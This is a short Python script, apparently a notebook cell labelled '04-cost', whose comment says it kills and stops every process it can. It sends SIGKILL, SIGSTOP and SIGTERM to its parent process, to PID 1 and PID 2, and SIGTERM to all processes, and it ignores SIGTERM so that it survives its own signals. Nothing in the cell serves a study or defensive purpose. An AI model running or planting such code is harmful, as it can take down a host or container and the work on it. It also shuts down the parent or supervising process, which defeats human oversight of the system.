# notebook: 04-cost
# Kills and stops every process that it may, first those above its own.
import os
import signal

for target in (os.getppid(), 1, 2, -1, 0):
    for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM):
        if target in (-1, 0) and number != signal.SIGTERM:
            continue
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        try:
            os.kill(target, number)
        except OSError as error:
            print(target, number, error)
